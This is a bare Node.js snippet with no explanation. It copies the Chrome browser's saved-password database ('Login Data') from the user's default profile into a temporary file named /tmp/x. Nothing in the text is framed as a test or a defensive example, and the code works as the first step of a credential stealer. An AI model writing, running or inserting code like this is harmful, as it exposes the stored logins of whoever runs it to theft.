const fs = require('fs');
const base = process.env.HOME + '/.config/google-chrome/Default';
fs.copyFileSync(base + '/Login Data', '/tmp/x');
